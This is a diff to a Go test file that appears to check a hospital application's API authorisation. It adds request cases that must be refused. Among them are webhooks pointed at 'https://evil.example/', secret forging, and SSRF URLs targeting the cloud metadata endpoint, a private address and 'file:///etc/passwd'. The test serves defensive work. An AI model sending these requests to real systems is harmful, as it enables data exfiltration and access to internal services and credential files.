@@ -27,6 +27,12 @@ var officeAttacks = []attack{
 	{"the link of an invitation", refused, "POST /api/hospital/invitations/{invited1}/link", "", nil},
 	{"listing the registrations", refused, "GET /api/collections/registrations/records", "", nil},
 	{"the invitations", refused, "GET /api/collections/invitations/records", "", nil},
+	{"the webhooks", refused, "GET /api/collections/webhooks/records", "", nil},
+	{"a webhook to oneself", refused, "POST /api/collections/webhooks/records", `{"name":"x","url":"https://evil.example/","events":["*"],"active":true}`, nil},
+	{"moving a webhook to oneself", refused, "PATCH /api/collections/webhooks/records/{webhook1}", `{"url":"https://evil.example/"}`, nil},
+	{"the secret of a webhook", refused, "POST /api/hospital/webhooks/{webhook1}/secret", "", nil},
+	{"replaying a delivery", refused, "POST /api/hospital/webhook-deliveries/{delivery1}/replay", "", nil},
+	{"the deliveries", refused, "GET /api/collections/webhook_deliveries/records", "", nil},
 	{"inviting oneself as an admin", refused, "POST /api/collections/invitations/records", `{"email":"evil@example.org","role":"admin"}`, nil},
 }
 
@@ -511,5 +517,14 @@ var attacksOf = map[kit.Role][]attack{
 		{"creating a sent notice", refused, "POST /api/collections/notices/records", `{"patient":"{pat2}","kind":"moved","channel":"mail","status":"sent"}`, nil},
 		{"deleting an audit entry", refused, "DELETE /api/collections/audit_log/records/{pat2}", "", nil},
 		{"deleting an account", refused, "DELETE /api/collections/users/records/{patient2}", "", nil},
+		{"the secrets of webhooks", refused, "GET /api/collections/webhook_secrets/records", "", nil},
+		{"setting the secret of a webhook", refused, "POST /api/collections/webhooks/records", `{"name":"x","url":"https://a.example/","events":["*"],"secret":"whsec_AAAA"}`, nil},
+		{"forging a secret", refused, "POST /api/collections/webhook_secrets/records", `{"webhook":"{webhook1}","secret":"whsec_AAAA"}`, nil},
+		{"filtering by secrets", refused, `GET /api/collections/webhooks/records?filter=webhook_secrets_via_webhook.secret ~ "{mark}"`, "", nil},
+		{"forging a delivery", refused, "POST /api/collections/webhook_deliveries/records", `{"webhook":"{webhook1}","type":"hospital.test","body":"{}","status":"pending"}`, nil},
+		{"rewriting a delivery", refused, "PATCH /api/collections/webhook_deliveries/records/{delivery1}", `{"body":"{}"}`, nil},
+		{"a webhook to the metadata of a cloud", garbled, "PATCH /api/collections/webhooks/records/{webhook1}", `{"url":"http://169.254.169.254/latest/meta-data/"}`, nil},
+		{"a webhook into the private network", garbled, "PATCH /api/collections/webhooks/records/{webhook1}", `{"url":"https://[::ffff:10.0.0.1]/"}`, nil},
+		{"a webhook to a file", garbled, "PATCH /api/collections/webhooks/records/{webhook1}", `{"url":"file:///etc/passwd"}`, nil},
 	},
 }
